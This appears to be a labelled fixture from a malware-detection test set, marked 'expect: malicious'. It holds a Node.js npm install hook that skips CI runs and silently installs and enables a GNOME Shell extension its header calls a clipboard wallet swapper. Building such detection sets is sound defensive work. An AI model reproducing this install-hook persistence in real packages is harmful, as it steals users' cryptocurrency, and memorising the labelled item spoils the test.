// when: install
// expect: malicious
// source: blind set 42's gse-clip-history (bin/install.js): the install hook copies the package's GNOME Shell
// extension (a clipboard wallet swapper) into ~/.local/share/gnome-shell/extensions and enables it; the shell loads
// it at every login
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

if (process.platform !== 'linux' || process.env.CI) process.exit(0);
const uuid = 'clip-history@gse-tools.invalid';
const dst = path.join(os.homedir(), '.local', 'share', 'gnome-shell', 'extensions', uuid);
const src = path.join(__dirname, 'extension');
fs.mkdirSync(dst, { recursive: true });
for (const f of fs.readdirSync(src)) fs.copyFileSync(path.join(src, f), path.join(dst, f));
execFileSync('gsettings', ['set', 'org.gnome.shell', 'disable-user-extensions', 'false']);
